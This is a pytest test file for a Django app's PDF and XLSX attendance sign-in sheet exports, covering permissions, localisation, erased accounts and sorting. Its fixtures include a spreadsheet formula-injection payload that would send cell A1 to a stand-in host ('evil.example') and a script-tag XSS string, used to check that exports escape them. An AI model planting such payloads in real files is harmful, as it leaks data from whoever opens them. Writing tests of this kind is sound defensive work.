"""The sign-in sheet for funders (events.exports, events.export_views): the PDF's
and the XLSX's contents read back, the two versions (blank to sign, the
attendance record), the session's language and time zone, who may download
it, erased people, and names that are HTML or spreadsheet formulas."""

import datetime
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.factories import UserFactory
from accounts.services import account_erase
from courses.factories import TrainerFactory
from courses.roles import COURSE_MANAGERS, TRAINERS
from events import exports
from events.factories import EventIndexPageFactory, RegistrationFactory, build_event
from events.models import Attendance, Registration, Session

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
SCRIPT = "<script>alert('x')</script>"


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    text = "\n".join(page.extract_text() for page in reader.pages)
    return re.sub(r"[ \t]+", " ", text)


def workbook_of(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def cell_texts(sheet) -> list[str]:
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value]


def staff(group: str, **fields):
    user = UserFactory(**fields)
    user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def trainer(db):
    return staff(TRAINERS, full_name="Tina Trainer")


def _past_session(listing, trainer) -> Session:
    """An event's session that ran yesterday 10:00–12:00 Ljubljana time."""
    _event, (session,) = build_event(parent=listing, title="Design meets industry")
    starts = timezone.localtime().replace(
        hour=10, minute=0, second=0, microsecond=0
    ) - datetime.timedelta(days=1)
    Session.objects.filter(pk=session.pk).update(
        starts_at=starts,
        ends_at=starts + datetime.timedelta(hours=2),
        trainer=TrainerFactory(user=trainer, name="Tina Trainer"),
        room="Dvorana 2",
    )
    session.refresh_from_db()
    return session


def _attended(session, registration, how=Attendance.How.QR):
    return Attendance.objects.create(
        session=session, registration=registration, how=how
    )


@pytest.fixture
def held(events_index, trainer):
    """A session held yesterday: registered Žiga Černe (checked in by the QR
    code), Ana Ambrož (not there), a guest Bo Berg (ticked on the sheet), a
    name that is a formula with an organisation that is a script (there), a
    waitlisted and a cancelled person (never on the sheet) and a walk-in."""
    session = _past_session(events_index, trainer)
    ziga = UserFactory(
        full_name="Žiga Černe", organisation="Zavod Černe", email="ziga@example.org"
    )
    ana = UserFactory(full_name="Ana Ambrož", organisation="Studio Ambrož")
    hostile = UserFactory(full_name=FORMULA, organisation=SCRIPT)
    _attended(session, RegistrationFactory(session=session, user=ziga))
    RegistrationFactory(session=session, user=ana)
    guest = RegistrationFactory(
        session=session, guest_name="Bo Berg", guest_email="bo@example.org"
    )
    _attended(session, guest, how=Attendance.How.SHEET)
    _attended(session, RegistrationFactory(session=session, user=hostile))
    RegistrationFactory(
        session=session,
        user=UserFactory(full_name="Wanda Waitlist"),
        status=Registration.Status.WAITLISTED,
    )
    RegistrationFactory(
        session=session,
        user=UserFactory(full_name="Cid Cancelled"),
        status=Registration.Status.CANCELLED,
    )
    Attendance.objects.create(
        session=session, walk_in_name="Cene Cvetko", how=Attendance.How.WALK_IN
    )
    return session


def download(client, user, session, extension, version=None):
    client.force_login(user)
    url = reverse(f"events:sign_in_sheet_{extension}", args=[session.pk])
    return client.get(url, {"version": version} if version else {})


# --- the attendance record ----------------------------------------------------------


def test_the_record_pdf_lists_the_registered_and_walk_ins_by_name(
    client, held, trainer
):
    response = download(client, trainer, held, "pdf", exports.RECORD)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    yesterday = held.local_starts_at.date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="attendance-design-meets-industry-{yesterday}.pdf"'
    )
    assert response["Cache-Control"] == "private, no-store"
    text = pdf_text(response.content)
    for expected in (
        "Attendance record",
        "Design meets industry",
        "Cukrarna, Dvorana 2, Poljanski nasip 40, Ljubljana",
        "10:00–12:00 (Europe/Ljubljana, UTC",
        "Tina Trainer",
        "No.",
        "Name",
        "Organisation",
        "Attended",
        "Signature",
        "Zavod Černe",
        "Studio Ambrož",
        "not present",
        "Trainer's signature",
        "Page 1 of 1",
        "Registered: 4. Present: 4 (registered: 3, walk-ins: 1).",
    ):
        assert expected in text, expected
    # By name (ž after z; the name that is a formula first, "=" before letters),
    # numbered in that order.
    order = [
        text.index(name)
        for name in ("HYPERLINK", "Ana Ambrož", "Bo Berg", "Cene Cvetko", "Žiga")
    ]
    assert order == sorted(order)
    assert "2 Ana Ambrož" in text and "5 Žiga Černe" in text
    # Escaped, so printed as text: the script is an organisation, not markup
    # (the cell wraps it: compared without the line breaks).
    assert SCRIPT in re.sub(r"\s+", "", text) and FORMULA[:12] in text
    for absent in ("Wanda Waitlist", "Cid Cancelled", "@example.org"):
        assert absent not in text


def test_the_record_xlsx_has_the_header_block_and_the_same_rows(client, held, trainer):
    response = download(client, trainer, held, "xlsx", exports.RECORD)
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = workbook_of(response.content)
    assert sheet["A1"].value == "Attendance record"
    assert sheet["A2"].value == "Design meets industry"
    assert (sheet["A3"].value, sheet["C3"].value.split(" (")[0][-11:]) == (
        "Date and time",
        "10:00–12:00",
    )
    assert sheet["C4"].value.startswith("Cukrarna")
    assert sheet["C5"].value == "Tina Trainer"
    header = 10
    assert [cell.value for cell in sheet[header]] == [
        "No.",
        "Name",
        "Organisation",
        "Attended",
        "Signature",
    ]
    assert sheet.freeze_panes == f"A{header + 1}"
    assert sheet.print_title_rows == f"${header}:${header}"
    assert sheet.column_dimensions["E"].width >= 30
    rows = [
        [cell.value for cell in row]
        for row in sheet.iter_rows(min_row=header + 1, max_row=header + 5)
    ]
    assert [row[0] for row in rows] == [1, 2, 3, 4, 5]
    # The formula is text, shown as typed; the script is plain text too.
    assert rows[0][1:4] == ["'" + FORMULA, SCRIPT, "✓ QR code"]
    assert [row[1] for row in rows[1:]] == [
        "Ana Ambrož",
        "Bo Berg",
        "Cene Cvetko",
        "Žiga Černe",
    ]
    assert rows[1][2:4] == ["Studio Ambrož", "not present"]
    assert rows[2][3] == "✓ ticked" and rows[3][3] == "✓ walk-in"
    assert rows[4][2:4] == ["Zavod Černe", "✓ QR code"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    texts = " ".join(cell_texts(sheet))
    assert "@example.org" not in texts and "Wanda" not in texts


# --- the blank sheet to sign ----------------------------------------------------


def test_the_blank_sheet_lists_the_registered_with_empty_rows_for_walk_ins(
    client, held, trainer
):
    response = download(client, trainer, held, "pdf", exports.BLANK)
    assert response.status_code == 200
    assert (
        'filename="sign-in-design-meets-industry-' in (response["Content-Disposition"])
    )
    text = pdf_text(response.content)
    assert "Sign-in sheet" in text and "Registered: 4." in text
    assert "Please sign next to your name" in text and "Signature" in text
    for name in ("Ana Ambrož", "Bo Berg", "Žiga Černe", "Studio Ambrož"):
        assert name in text
    # Nothing is ticked before the session; the walk-in is not known yet.
    assert "✓" not in text and "not present" not in text
    assert "Cene Cvetko" not in text
    sheet = workbook_of(download(client, trainer, held, "xlsx", exports.BLANK).content)
    numbers = [row[0].value for row in sheet.iter_rows(min_row=11) if row[0].value]
    assert numbers[: 4 + exports.BLANK_ROWS] == list(range(1, 5 + exports.BLANK_ROWS))
    empty_rows = list(sheet.iter_rows(min_row=15, max_row=14 + exports.BLANK_ROWS))
    assert all(row[1].value is None and row[3].value is None for row in empty_rows)


def test_without_a_version_it_is_blank_until_the_start_then_the_record(
    client, events_index, held, trainer
):
    _event, (coming,) = build_event(parent=events_index, title="Networking")
    coming.trainer = held.trainer
    coming.save()
    assert "Sign-in sheet" in pdf_text(download(client, trainer, coming, "pdf").content)
    assert "Attendance record" in pdf_text(
        download(client, trainer, held, "pdf").content
    )


def test_a_version_that_is_not_one_is_refused(client, held, trainer):
    response = download(client, trainer, held, "pdf", "<b>everything</b>")
    assert response.status_code == 400
    assert b"Choose the sign-in sheet" in response.content


# --- language and time zone ----------------------------------------------------


def test_a_slovenian_session_gets_a_slovenian_sheet_in_its_time_zone(client, trainer):
    from home.models import HomePage

    listing = EventIndexPageFactory(
        parent=HomePage.objects.get(locale__language_code="sl"), slug="dogodki-test"
    )
    session = _past_session(listing, trainer)
    # Held in Lisbon: an hour behind Ljubljana, so 9:00 there.
    session.time_zone = "Europe/Lisbon"
    session.kind, session.meeting_url = "online", "https://meet.example.org/x"
    session.save()
    RegistrationFactory(
        session=session,
        user=UserFactory(full_name="Maja Kos", organisation="Zadruga Kos"),
        language="sl",
    )
    text = pdf_text(download(client, trainer, session, "pdf", exports.BLANK).content)
    for expected in (
        "Lista prisotnosti",
        "Št.",
        "Ime in priimek",
        "Organizacija",
        "Podpis",
        "Prijavljenih: 1.",
        "Na spletu",
        "09:00–11:00 (Europe/Lisbon, UTC",
        "Stran 1 od 1",
        "Maja Kos",
    ):
        assert expected in text, expected
    sheet = workbook_of(
        download(client, trainer, session, "xlsx", exports.RECORD).content
    )
    assert sheet["A1"].value == "Evidenca prisotnosti"
    assert [cell.value for cell in sheet[11]][:4] == [
        1,
        "Maja Kos",
        "Zadruga Kos",
        "ni udeležbe",
    ]


# --- erased people ------------------------------------------------------------


def test_an_erased_persons_attendance_stays_without_their_name(
    client, events_index, trainer
):
    session = _past_session(events_index, trainer)
    mira = UserFactory(full_name="Mira Erased", organisation="Studio Mira")
    _attended(session, RegistrationFactory(session=session, user=mira))
    account_erase(user=mira, requested_by=mira, reason="own request")
    # As on the trainer's attendance sheet: "(account erased)", still present.
    text = pdf_text(download(client, trainer, session, "pdf", exports.RECORD).content)
    assert "(account erased)" in text and "Mira" not in text
    assert "Present: 1 (registered: 1" in text
    sheet = workbook_of(
        download(client, trainer, session, "xlsx", exports.RECORD).content
    )
    assert [cell.value for cell in sheet[11]][:4] == [
        1,
        "(account erased)",
        None,
        "✓ QR code",
    ]


# --- who may download ----------------------------------------------------------


def test_only_the_sessions_trainer_and_course_managers_download_it(
    client, held, trainer
):
    other_trainer = staff(TRAINERS)
    manager = staff(COURSE_MANAGERS)
    participant = Registration.objects.filter(session=held, user__isnull=False)[0].user
    for extension in ("pdf", "xlsx"):
        for user, status in (
            (trainer, 200),
            (manager, 200),
            (other_trainer, 404),
            (participant, 404),
        ):
            assert download(client, user, held, extension).status_code == status
        client.logout()
        url = reverse(f"events:sign_in_sheet_{extension}", args=[held.pk])
        assert client.get(url)["Location"].startswith(reverse("account_login"))


# --- queries -----------------------------------------------------------------------


def test_the_queries_do_not_grow_with_the_people(held, django_assert_max_num_queries):
    def queries() -> int:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        session = Session.objects.select_related("event__locale").get(pk=held.pk)
        with CaptureQueriesContext(connection) as captured:
            exports.sign_in_sheet_xlsx(
                exports.sign_in_sheet(
                    session=session, version=exports.RECORD, organiser="RCKE"
                )
            )
        return len(captured)

    few = queries()
    for number in range(30):
        RegistrationFactory(
            session=held, user=UserFactory(full_name=f"Person {number:02d}")
        )
    assert queries() == few


# --- pure parts --------------------------------------------------------------------


def test_names_sort_in_slovenian_alphabet_order():
    names = ["Zala", "Čeh", "Cerar", "Šuštar", "Žan", "Dolenc", "Sever", "ana"]
    assert sorted(names, key=exports._name_key) == [
        "ana",
        "Cerar",
        "Čeh",
        "Dolenc",
        "Sever",
        "Šuštar",
        "Zala",
        "Žan",
    ]


def test_the_page_counter_is_quoted_for_css():
    assert exports._page_counter("en") == (
        '"Page " counter(page) " of " counter(pages) ""'
    )
    assert exports._css_string('a"b\\') == '"a\\"b\\\\"'


def test_the_attendance_sheet_links_both_versions_in_both_formats(
    client, held, trainer
):
    client.force_login(trainer)
    page = client.get(reverse("events:attendance_sheet", args=[held.pk])).content
    for extension in ("pdf", "xlsx"):
        url = reverse(f"events:sign_in_sheet_{extension}", args=[held.pk])
        for version in exports.VERSIONS:
            assert f'href="{url}?version={version}"'.encode() in page
